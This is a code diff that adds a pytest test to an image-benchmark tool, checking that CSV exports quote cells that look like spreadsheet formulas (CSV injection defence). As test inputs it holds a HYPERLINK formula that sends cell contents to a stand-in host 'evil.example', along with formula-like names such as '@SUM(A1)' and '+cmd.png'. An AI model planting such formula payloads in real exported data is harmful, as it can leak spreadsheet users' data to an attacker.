@@ -489,3 +489,33 @@ def test_warnings_show_a_run_path_with_line_breaks_escaped(tmp_path):
     warnings = _warnings(result)
     assert len(warnings) == 1 and "bad\\nwarning: forged\\x1b[31m" in warnings[0], result.stderr
     assert all(line.startswith("warning:") for line in result.stderr.splitlines())
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def test_csv_text_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
+    """A run named like a formula is quoted with ``'`` in the leaderboard CSV (OWASP CSV injection), as are
+    image names in ``score``'s CSV and model names in the study table; numbers stay numbers."""
+    _run(tmp_path, "evil", FORMULA, np.linspace(20, 30, 8))
+    _run(tmp_path, "neg", "-2+3", np.linspace(21, 31, 8))
+    text = render(build_leaderboard(find_runs([tmp_path])), "csv")
+    frame = pd.read_csv(pd.io.common.StringIO(text))
+    assert set(frame["model"]) == {"'" + FORMULA, "'-2+3"}
+    assert frame["mean"].dtype.kind in "if"  # numbers stay numbers
+
+    from pikfix_bench.study.tables import analysis_csv
+
+    study = analysis_csv({"models": [{"model": "@SUM(A1)", "score": -0.5}]})
+    assert "'@SUM(A1)" in study and ",-0.5" in study
+
+    images = tmp_path / "images"
+    images.mkdir()
+    from PIL import Image
+
+    Image.fromarray(np.full((100, 100, 3), 120, np.uint8)).save(images / "+cmd.png")
+    result = CliRunner().invoke(
+        main, ["score", "--pred", str(images), "--metrics", "colorfulness", "--format", "csv"]
+    )
+    assert result.exit_code == 0, result.output
+    assert "'+cmd.png" in result.output
